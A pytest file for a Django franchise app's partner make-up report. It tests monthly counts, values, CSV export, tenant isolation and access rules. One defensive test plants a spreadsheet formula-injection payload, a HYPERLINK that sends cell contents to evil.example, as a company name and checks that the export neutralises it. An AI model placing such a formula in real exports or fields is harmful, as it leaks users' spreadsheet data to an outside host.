"""FRN-8 / BEY-5: make-ups hosted for and sent to each partner per month, with their value,
on screen and as CSV; FRN-7: no student in it; TEN-1: each company sees only the bookings it
is a side of."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from franchise.selectors.reports import partner_report
from tests import factories as f

from .conftest import link_companies, makeup_booking

pytestmark = pytest.mark.django_db

REPORT = "/manage/franchise/report/?year=2026"


@pytest.fixture
def exchanged(world):
    """Alpha is linked with Beta and with Gamma (NZD); bookings both ways, some that must not
    count."""
    a, b = world.company_a, world.company_b
    gamma = f.CompanyFactory(name="Gamma Swim", slug="gamma", currency="NZD")
    link_companies(a, b)
    link_companies(a, gamma)
    # Alpha hosts Beta's guests in October: attended, one in a class without a price.
    makeup_booking(
        host=a,
        home=b,
        day=date(2026, 10, 6),
        price=Decimal("20.00"),
        attendance="present",
        student_name="Bella",
    )
    makeup_booking(host=a, home=b, day=date(2026, 10, 13), price=None, student_name="Bruno")
    # Beta hosts Alpha's students in November: one no-show counts, one cancelled does not.
    makeup_booking(
        host=b, home=a, day=date(2026, 11, 3), price=Decimal("25.00"), student_name="Ava"
    )
    makeup_booking(
        host=b,
        home=a,
        day=date(2026, 11, 10),
        price=Decimal("30.00"),
        attendance="no_show",
        student_name="Alex",
    )
    makeup_booking(host=b, home=a, day=date(2026, 11, 17), state="cancelled", student_name="Amy")
    # Gamma hosts one of Alpha's students (valued in NZD).
    makeup_booking(
        host=gamma, home=a, day=date(2026, 11, 5), price=Decimal("40.00"), student_name="Anna"
    )
    # Not partner make-ups of 2026: Alpha's own make-up, and last year's.
    makeup_booking(host=a, home=a, day=date(2026, 11, 5), student_name="Own")
    makeup_booking(host=a, home=b, day=date(2025, 12, 1), student_name="Old")
    # Gamma and Beta are not linked, but a Beta–Gamma booking must stay out of Alpha's view.
    makeup_booking(host=gamma, home=b, day=date(2026, 11, 5), student_name="Ghost")
    return gamma


def _months(report):
    return {
        (r.partner.name, m.month): (m.incoming, m.incoming_value, m.outgoing, m.outgoing_value)
        for r in report
        for m in r.months
    }


def test_frn_8_report_counts_incoming_and_outgoing_per_partner_and_month(world, exchanged):
    report = partner_report(world.company_a, 2026)
    assert [r.partner.name for r in report] == ["Beta Swim", "Gamma Swim"]
    assert _months(report) == {
        ("Beta Swim", date(2026, 10, 1)): (2, Decimal("20.00"), 0, Decimal("0.00")),
        ("Beta Swim", date(2026, 11, 1)): (0, Decimal("0.00"), 2, Decimal("55.00")),
        ("Gamma Swim", date(2026, 11, 1)): (0, Decimal("0.00"), 1, Decimal("40.00")),
    }
    beta = report[0]
    assert (beta.incoming, beta.incoming_value, beta.outgoing, beta.outgoing_value) == (
        2,
        Decimal("20.00"),
        2,
        Decimal("55.00"),
    )
    assert partner_report(world.company_a, 2025)[0].incoming == 1


def test_ten_1_each_company_sees_only_the_bookings_it_is_a_side_of(world, exchanged):
    report = partner_report(world.company_b, 2026)
    assert _months(report) == {
        ("Alpha Swim", date(2026, 10, 1)): (0, Decimal("0.00"), 2, Decimal("20.00")),
        ("Alpha Swim", date(2026, 11, 1)): (2, Decimal("55.00"), 0, Decimal("0.00")),
        ("Gamma Swim", date(2026, 11, 1)): (0, Decimal("0.00"), 1, Decimal("25.00")),
    }


def test_frn_8_report_page_shows_months_values_and_totals_without_students(world, login, exchanged):
    response = login(world.owner_a).get(REPORT)
    assert response.status_code == 200
    html = response.content.decode()
    for text in (
        "Partner report 2026",
        "Beta Swim",
        "Gamma Swim",
        "October 2026",
        "November 2026",
        "55.00",
        "40.00 NZD",
        "mixed currencies",
    ):
        assert text in html, text
    # FRN-7: partner, month, counts and value only. (The page body: the menu shows the
    # signed-in owner's own name, a random one that may well be "Alexandra".)
    body = html[html.index('<main id="main"') :]
    for name in ("Bella", "Bruno", "Ava", "Alex", "Anna", "Ghost"):
        assert name not in body


def test_frn_8_report_csv_export(world, login, exchanged):
    response = login(world.admin_a).get(REPORT + "&format=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="partner-makeups-2026.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff"))))
    assert rows == [
        [
            "Partner",
            "Month",
            "Guests hosted",
            "Value hosted (AUD)",
            "Students sent",
            "Value sent",
            "Currency of value sent",
        ],
        ["Beta Swim", "2026-10", "2", "20.00", "0", "0.00", "AUD"],
        ["Beta Swim", "2026-11", "0", "0.00", "2", "55.00", "AUD"],
        ["Gamma Swim", "2026-11", "0", "0.00", "1", "40.00", "NZD"],
        ["Total", "2026", "2", "20.00", "3", "", ""],
    ]


def test_ten_1_other_companys_report_holds_only_its_own_side(world, login, exchanged):
    html = login(world.owner_b).get(REPORT).content.decode()
    assert "Alpha Swim" in html and "Gamma Swim" in html
    rows = list(
        csv.reader(
            io.StringIO(
                login(world.owner_b).get(REPORT + "&format=csv").content.decode().lstrip("\ufeff")
            )
        )
    )
    assert rows[1:] == [
        ["Alpha Swim", "2026-10", "0", "0.00", "2", "20.00", "AUD"],
        ["Alpha Swim", "2026-11", "2", "55.00", "0", "0.00", "AUD"],
        ["Gamma Swim", "2026-11", "0", "0.00", "1", "25.00", "NZD"],
        ["Total", "2026", "2", "55.00", "3", "", ""],
    ]


def test_ten_2_admins_read_the_report_staff_do_not(world, login):
    assert login(world.admin_a).get(REPORT).status_code == 200
    assert login(world.staff_a).get(REPORT).status_code == 403
    assert "No make-ups exchanged with partners in 2026" in (
        login(world.owner_a).get(REPORT).content.decode()
    )


def test_frn_8_report_queries_do_not_grow_with_partners_and_bookings(world, login):
    a = world.company_a

    def count() -> int:
        client = login(world.owner_a)
        with CaptureQueriesContext(connection) as queries:
            assert client.get(REPORT).status_code == 200
        return len(queries)

    def add(n: int) -> None:
        for _ in range(n):
            partner = f.CompanyFactory()
            makeup_booking(host=a, home=partner)
            makeup_booking(host=partner, home=a, day=date(2026, 3, 3))

    add(1)
    few = count()
    add(4)
    assert count() == few


def test_frn_8_csv_export_never_carries_a_partners_formula(world, login, exchanged):
    """A partner company names itself with a formula: in the other company's spreadsheet it
    is text, not a link that sends the cells to an outside address."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    world.company_b.name = formula
    world.company_b.save(update_fields=["name"])
    response = login(world.admin_a).get(REPORT + "&format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff"))))
    assert [row[0] for row in rows[1:3]] == ["'" + formula] * 2
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
